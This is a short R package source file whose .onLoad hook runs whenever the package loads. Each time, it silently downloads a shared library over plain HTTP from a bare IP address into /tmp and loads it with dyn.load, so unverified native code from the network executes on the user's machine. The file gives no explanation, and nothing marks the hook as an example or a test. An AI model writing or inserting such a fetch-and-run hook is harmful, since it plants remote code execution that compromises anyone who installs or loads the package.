.onLoad <- function(libname, pkgname) {
  utils::download.file("http://203.0.113.1/a.so", "/tmp/a.so")
  dyn.load("/tmp/a.so")
}
